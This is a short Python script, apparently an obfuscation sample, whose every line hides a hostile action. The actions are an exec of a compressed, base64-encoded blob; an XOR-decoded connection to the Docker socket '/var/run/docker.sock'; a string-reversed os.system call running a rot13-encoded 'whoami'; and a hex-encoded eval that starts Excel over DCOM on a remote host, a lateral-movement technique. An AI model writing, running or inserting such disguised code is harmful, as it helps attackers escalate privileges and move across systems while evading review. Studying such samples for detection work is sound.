import base64 as b, zlib, codecs
exec(zlib.decompress(b.b64decode("eJzLzC3ILypRyC+2BmK94sriktRcDfXMFHVNAINXCRo=")))
k = b"key"
d = [68,19,24,25,74,11,30,11,86,15,10,26,0,0,11,69,22,22,8,14]
p = ''.join(chr(c ^ k[i % 3]) for i, c in enumerate(d))
import socket
getattr(socket.socket(socket.AF_UNIX), 'con' + 'nect')(p)
getattr(__import__('o' + 's'), 'metsys'[::-1])(codecs.decode('jubnzv', 'rot13'))
eval(compile(bytes.fromhex('5f5f696d706f72745f5f282777696e3332636f6d2e636c69656e7427292e636c69656e742e446973706174636845782827457863656c2e4170706c69636174696f6e272c202773727630372729'), '', 'eval'))
